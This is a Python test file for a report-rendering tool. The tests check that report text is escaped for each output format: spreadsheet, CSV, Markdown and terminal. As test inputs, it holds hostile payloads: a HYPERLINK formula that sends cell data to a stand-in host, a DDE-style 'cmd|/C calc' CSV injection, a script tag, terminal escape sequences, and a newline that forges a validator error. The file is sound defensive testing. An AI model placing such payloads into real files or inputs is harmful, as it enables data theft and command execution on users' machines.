"""Output encoding per format: text from a report is never a formula in XLSX or CSV, never a control sequence on
a terminal, never markup in Markdown."""

from __future__ import annotations

import zipfile
from pathlib import Path

from reportascode.model import escape
from tests.conftest import run_rac

HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"click") <script>alert(1)</script> <!-- hide'


def _hostile_name(workspace: Path) -> None:
    company = workspace / "reports" / "2024" / "company.yaml"
    lines = company.read_text(encoding="utf-8").split("\n")
    lines = [f"name: '{HOSTILE}'" if line.startswith("name:") else line for line in lines]
    company.write_text("\n".join(lines), encoding="utf-8")


def test_no_formula_in_any_generated_sheet_for_text(workspace: Path, tmp_path: Path) -> None:
    _hostile_name(workspace)
    out = tmp_path / "out"
    run = run_rac("render", "--lang", "en", "--format", "xlsx", "--format", "md", "--draft", "--out", str(out),
                  "reports/2024", cwd=workspace)
    assert run.code in (0, 1), (run.out, run.err)
    sheets = list(out.rglob("*.xlsx"))
    assert sheets
    for book in sheets:
        with zipfile.ZipFile(book) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
            strings = b"".join(archive.read(n) for n in archive.namelist() if "sharedStrings" in n or "sheet" in n)
            assert b"=HYPERLINK" in strings  # kept, as text


def test_summary_md_escapes_markup_from_data(workspace: Path, tmp_path: Path) -> None:
    _hostile_name(workspace)
    out = tmp_path / "out"
    run = run_rac("render", "--lang", "en", "--format", "md", "--draft", "--out", str(out), "reports/2024",
                  cwd=workspace)
    assert run.code in (0, 1), (run.out, run.err)
    summary = next(out.rglob("summary.md")).read_text(encoding="utf-8")
    assert "<script>" not in summary and "<!--" not in summary
    assert "&lt;script&gt;" in summary


def test_escapes() -> None:
    assert escape.terminal("a\x1b]0;pwned\x07b\nc\u202e") == "a\\x1b]0;pwned\\x07b\\nc\\u202e"
    assert escape.terminal("tab\tand 中文") == "tab\tand 中文"
    assert escape.markdown("<!-- [x](y) *b*") == "&lt;!-- \\[x\\](y) \\*b\\*"
    for start in "=+-@\t\r":
        assert escape.csv_cell(f"{start}cmd|' /C calc'!A0").startswith("'")
    assert escape.csv_cell("星澜") == "星澜"
    assert escape.xml_text("a\x1bb\x00") == "a\\x1bb\\x00"


def test_text_findings_cannot_forge_a_line(workspace: Path) -> None:
    company = workspace / "reports" / "2024" / "company.yaml"
    text = company.read_text(encoding="utf-8").replace('postcode: "310013"',
                                                       'postcode: "3100\\nreports/2024/x.yaml:1:1: error FAKE"')
    company.write_text(text, encoding="utf-8")
    run = run_rac("validate", "--lang", "en", "reports/2024", cwd=workspace)
    assert run.code == 1, run.err
    assert not any(line.startswith("reports/2024/x.yaml") for line in run.out.splitlines())


def test_trends_csv_neutralises_formulas(workspace: Path) -> None:
    _hostile_name(workspace)
    run = run_rac("trends", "--format", "csv", "--lang", "en", cwd=workspace)
    assert run.code in (0, 1), run.err
    for line in run.out.splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "@")), line
